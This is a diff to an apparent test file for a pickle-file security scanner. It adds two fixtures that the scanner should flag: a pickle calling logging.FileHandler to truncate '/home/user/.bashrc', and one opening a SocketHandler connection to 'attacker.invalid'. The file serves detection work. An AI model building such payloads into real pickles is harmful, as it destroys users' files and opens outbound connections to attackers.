@@ -149,6 +149,18 @@ export const ROUND4_LIBRARY_CASES: readonly UnseenCase[] = [
     'accelerate/commands/launch.py launch_command → subprocess.Popen',
   ),
   {
+    name: 'logging.FileHandler with mode w (truncates the file)',
+    loader: 'Lib/logging/__init__.py FileHandler.__init__ → _open: open(baseFilename, mode)',
+    files: { 'm.pkl': call2('logging', 'FileHandler', '/home/user/.bashrc', 'w') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'logging.handlers.SocketHandler (connects out when it emits)',
+    loader: 'Lib/logging/handlers.py SocketHandler',
+    files: { 'm.pkl': call2('logging.handlers', 'SocketHandler', 'attacker.invalid', '9000') },
+    want: ['CPI001:error'],
+  },
+  {
     name: 'peft PeftModel.from_pretrained at protocol 4 (a hub loader)',
     loader:
       'Lib/pickle.py find_class (protocol 4 dotted names) → PeftModel.from_pretrained downloads and loads weights',
